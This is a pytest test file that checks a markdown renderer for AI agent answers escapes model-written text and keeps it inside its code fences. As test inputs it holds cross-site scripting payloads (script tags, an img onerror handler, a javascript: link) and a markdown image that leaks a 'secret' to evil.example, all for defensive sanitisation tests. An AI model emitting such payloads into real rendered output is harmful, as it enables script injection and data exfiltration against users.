"""Agent answers as markdown: the reference layout, and nothing a model or program wrote
can become HTML or break out of its code fence."""

from __future__ import annotations

from sessions_app.agents.markdown import answer_markdown, plan_markdown, summary_markdown


def test_answer_layout():
    text = answer_markdown(
        agent="planner_data_viz_agent",
        code="fig = px.bar(df, x='a', y='b')\nfig.show()",
        summary="Bars of b per a.",
        stdout="done\n",
        error=None,
        plotly=['{"data": []}'],
        matplotlib=[],
    )
    assert text == (
        "\n## Planner Data Viz Agent\n\n"
        "### Code Implementation\n```python\nfig = px.bar(df, x='a', y='b')\nfig.show()\n```\n\n"
        "### Output\n```output\ndone\n```\n\n"
        '```plotly\n{"data": []}\n```\n\n'
        "### Summary\nBars of b per a.\n"
    )


def test_model_text_cannot_inject_html_or_close_fences():
    text = answer_markdown(
        agent="x_agent",
        code="print('```')\n```\n<script>alert(1)</script>",
        summary="<img src=x onerror=alert(1)> & done",
        stdout="```\n<b>bold</b>",
        error=None,
        plotly=[],
        matplotlib=[],
    )
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt; &amp; done" in text
    # Inside fences HTML is inert text; what matters is that no line closes the fence early.
    fences = [line for line in text.splitlines() if line.startswith("```")]
    assert fences == ["```python", "```", "```output", "```"]


def test_numbered_summaries_become_bullets():
    assert summary_markdown("Two findings: (1) mean is 5 (2) max is 9") == "Two findings:\n* mean is 5\n* max is 9\n"


def test_plan_markdown():
    text = plan_markdown(
        complexity="intermediate",
        steps=[{"agent": "planner_sk_learn_agent", "create": ["model"], "use": ["df"], "instruction": "fit <it>"}],
    )
    assert "●● intermediate</div>" in text
    assert text.endswith(
        "## Analytical Planner\n\n#### Planner Sk Learn Agent\n- **Create**:\n  - model\n- **Use**:\n  - df\n"
        "- **Instruction**: fit &lt;it&gt;\n"
    )


def test_prose_cannot_carry_links_images_or_fences():
    text = summary_markdown(
        "See ![x](https://evil.example/?d=secret) and [click](javascript:alert(1))\n```python\nx\n```"
    )
    assert "](" not in text and "```" not in text
    assert "![x]\u200b(https://evil.example/?d=secret)" in text
